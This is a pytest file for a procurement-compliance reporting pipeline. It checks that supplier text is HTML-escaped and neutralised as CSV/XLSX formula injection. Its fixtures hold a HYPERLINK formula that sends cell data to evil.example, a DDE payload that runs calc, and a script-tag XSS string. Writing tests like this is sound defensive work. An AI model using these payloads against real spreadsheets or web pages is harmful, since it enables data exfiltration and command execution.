"""Supplier-controlled text is escaped in HTML and cannot become a formula in XLSX or CSV."""

from __future__ import annotations

import csv
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from compliance.base.settings import Settings
from compliance.pipeline import run_pipeline
from compliance.reports.workbook import Sheet, neutralise_cell, write_csv, write_workbook
from tests.conftest import SAMPLE_DIR
from tests.reports.conftest import AS_OF

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Engangskrus plast")'
HOSTILE_LABEL = "=cmd|' /C calc'!A0"


def test_neutralise_cell_covers_every_trigger() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_cell(text) == "'" + text
    assert neutralise_cell("Kopipapir") == "Kopipapir" and neutralise_cell(-5) == -5 and neutralise_cell(None) is None


def test_written_cells_are_text_not_formulas(tmp_path: Path) -> None:
    book = write_workbook(tmp_path / "t.xlsx", [Sheet("S", ["=title", "n"], [["=1+2", 3]])])
    sheet = load_workbook(book)["S"]
    assert sheet["A1"].value == "'=title" and sheet["A2"].value == "'=1+2" and sheet["A2"].data_type == "s"
    path = write_csv(tmp_path / "t.csv", ["a"], [["@SUM(A1)"], ["ok"]])
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["a", "'@SUM(A1)", "ok"]


@pytest.mark.slow
@pytest.mark.integration
def test_hostile_text_from_an_invoice_reaches_no_report_as_markup_or_formula(settings: Settings, tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    shutil.copytree(SAMPLE_DIR, inbox)
    invoice = inbox / "office" / "NK-2025-0008.xml"
    escaped_name = FORMULA_NAME.replace("&", "&amp;").replace('"', "&quot;") + " &lt;script&gt;alert(1)&lt;/script&gt;"
    text = invoice.read_text(encoding="utf-8")
    text = text.replace("<cbc:Name>Engangskrus plast 20 cl, 100 stk</cbc:Name>", f"<cbc:Name>{escaped_name}</cbc:Name>")
    certificate = (
        f"<cac:Certificate><cbc:ID>{HOSTILE_LABEL.replace('&', '&amp;')}</cbc:ID>"
        "<cbc:CertificateTypeCode>X</cbc:CertificateTypeCode><cbc:CertificateType>Miljømærke</cbc:CertificateType></cac:Certificate>"
    )
    marker = '<cbc:ItemClassificationCode listAgencyID="9" listID="UNSPSC" listVersionID="19.0501">52152102</cbc:ItemClassificationCode>\n      </cac:CommodityClassification>'
    assert marker in text
    invoice.write_text(text.replace(marker, marker + certificate), encoding="utf-8")
    settings = replace(settings, inbox=inbox)
    result = run_pipeline(settings, as_of=AS_OF)
    assert not result.ingest.quarantined

    folder = settings.reports_dir / "KK-2025-0042"
    html = (folder / "annual-report-KK-2025-0042-year-1.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    notice = (settings.reports_dir / "notices" / "notice-KK-2025-0042-1-27614590.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in notice and "&lt;script&gt;alert(1)&lt;/script&gt;" in notice

    book = load_workbook(folder / "annual-report-KK-2025-0042-year-1.xlsx")
    names = [row[6] for row in book["Fakturalinjer"].iter_rows(min_row=2, values_only=True) if row[0] == "NK-2025-0008"]
    assert "'" + FORMULA_NAME + " <script>alert(1)</script>" in names
    received = [row[8] for row in book["Fund"].iter_rows(min_row=2, values_only=True)]
    assert "'" + HOSTILE_LABEL in received
    assert not [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], (
        "no cell may hold a formula"
    )

    with (settings.reports_dir / "findings.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert "'" + HOSTILE_LABEL in [row["received"] for row in rows]
    assert not [value for row in rows for value in row.values() if value and value[0] in "=+-@\t\r"]
